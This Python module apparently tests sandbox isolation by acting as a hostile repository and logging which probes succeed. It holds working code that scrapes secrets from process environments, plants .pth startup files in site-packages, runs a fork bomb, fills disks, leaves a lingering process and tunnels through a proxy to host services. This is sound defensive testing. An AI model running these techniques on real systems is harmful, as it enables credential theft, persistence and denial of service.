"""Everything a hostile repository tries, once per phase; results kept in the worktree."""

import binascii
import json
import os
import re
import socket
import struct
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SECRETISH = re.compile(rb"(SECRET|TOKEN|KEY|PASSWORD|PRIVATE|CANARY)", re.I)


def _targets():
    with open(os.path.join(HERE, "targets.json")) as f:
        return json.load(f)


def _loot_env(blob, found):
    for entry in blob.split(b"\0"):
        if b"=" in entry and SECRETISH.search(entry.split(b"=", 1)[0]):
            found.append(entry[:300])


def _read(path, found):
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            found.append(("ls %s: %s" % (path, " ".join(sorted(names)[:30]))).encode())
            for name in names[:20]:
                _read(os.path.join(path, name), found) if os.path.isfile(os.path.join(path, name)) else None
            return "read"
        with open(path, "rb") as f:
            found.append(path.encode() + b": " + f.read(400))
        return "read"
    except OSError:
        return "blocked"


def _connect(host, port, kind):
    """"open" only when the service itself answers: some networks accept any connection."""
    s = socket.socket()
    s.settimeout(2)
    try:
        if s.connect_ex((host, port)) != 0:
            return "blocked"
        if kind == "redis":
            s.sendall(b"PING\r\n")
            ok = s.recv(16).startswith((b"+PONG", b"-NOAUTH"))
        elif kind == "postgres":
            s.sendall(struct.pack("!ii", 8, 80877103))  # SSLRequest: the server answers S or N
            ok = s.recv(1) in (b"S", b"N")
        else:
            ok = s.recv(32).startswith(b"SPICE-LISTENER")
        return "open" if ok else "blocked"
    except OSError:
        return "blocked"
    finally:
        s.close()


def _write(directory, name):
    try:
        path = os.path.join(directory, name)
        with open(path, "w") as f:
            f.write("import os\nopen(os.path.join(os.path.expanduser('~'), 'planted-ran'), 'w')\n")
        return "wrote"
    except OSError:
        return "blocked"


def _fork_bomb(limit):
    kids, stopped = [], "limited"
    try:
        for _ in range(limit):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            kids.append(pid)
        stopped = "unlimited"
    except OSError:
        pass
    for pid in kids:
        try:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
        except OSError:
            pass
    return stopped


def _fill_disk(directory, mb):
    try:
        with open(os.path.join(directory, "fill.bin"), "wb") as f:
            for _ in range(mb):
                f.write(b"\0" * (1 << 20))
        result = "unlimited"
    except OSError:
        result = "limited"
    try:
        os.remove(os.path.join(directory, "fill.bin"))
    except OSError:
        pass
    return result


def _linger(marker):
    """A process meant to outlive the job: double fork, new session."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", marker])
        os._exit(0)
    return "started"


def _tunnel(proxy, host, port):
    """CONNECT through the install's proxy: "open" when the proxy agrees to the tunnel."""
    s = socket.socket()
    s.settimeout(5)
    try:
        where = proxy.split("://", 1)[-1].rstrip("/").rsplit(":", 1)
        s.connect((where[0], int(where[1])))
        s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port)).encode())
        return "open" if s.recv(64).split(b" ")[1:2] == [b"200"] else "blocked"
    except (OSError, ValueError, IndexError):
        return "blocked"
    finally:
        s.close()


def _gateway():
    """The default route's gateway (the host, seen from a network namespace with a route)."""
    try:
        with open("/proc/net/route") as f:
            for line in f.read().splitlines()[1:]:
                fields = line.split()
                if fields[1] == "00000000":
                    raw = bytes.fromhex(fields[2])[::-1]
                    return ".".join(str(b) for b in raw)
    except (OSError, IndexError, ValueError):
        pass
    return None


def run(phase):
    t = _targets()
    gateway = _gateway()
    proxy = os.environ.get("HTTPS_PROXY")
    if gateway or proxy:  # a phase with a network or a proxy (installing): reported on its own
        phase += "_net"
    probes, loot = {}, []
    _loot_env(b"\0".join(("%s=%s" % kv).encode() for kv in os.environ.items()), loot)
    own = {str(os.getpid()), str(os.getppid())}
    seen = 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid in own:
            continue
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                _loot_env(f.read(), loot)
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                cmd = f.read()
            if SECRETISH.search(cmd):
                loot.append(cmd[:300])
            seen += 1
        except OSError:
            pass
    probes["processes_seen"] = str(seen)
    for name, path in sorted(t["read"].items()):
        probes["read_" + name] = _read(path, loot)
    for name, port in sorted(t["ports"].items()):
        for host in ["127.0.0.1", *t.get("host_addresses", [])]:
            probes["connect_%s_%s" % (name, host)] = _connect(host, port, name)
            if proxy:  # the proxy must be no way to the host's services either
                probes["tunnel_%s_%s" % (name, host)] = _tunnel(proxy, host, port)
        if gateway:
            probes["connect_%s_gateway" % name] = _connect(gateway, port, name)
    for name, path in sorted(t["write"].items()):
        probes["write_" + name] = _write(path, "zz_spice_planted_%s.pth" % phase)
    site = [p for p in sys.path if p.endswith("site-packages")]
    for i, path in enumerate(site):
        probes["write_site%d" % i] = _write(path, "zz_spice_planted_%s.pth" % phase)
    if phase == "tests":
        probes["fork_bomb"] = _fork_bomb(t["fork_bomb"])
        probes["fill_disk"] = _fill_disk(HERE, t["fill_mb"])
        probes["fill_tmp"] = _fill_disk("/tmp", t["fill_mb"])
        probes["linger"] = _linger(t["marker"])
        probes["planted_ran"] = str(os.path.exists(os.path.expanduser("~/planted-ran")))
    probes["uid"] = str(os.getuid())
    out = {"phase": phase, "probes": probes, "loot": binascii.hexlify(b"\n".join(loot)).decode()}
    try:
        with open(os.path.join(HERE, ".attack-%s.json" % phase), "w") as f:
            json.dump(out, f)
    except OSError:
        pass
    return out
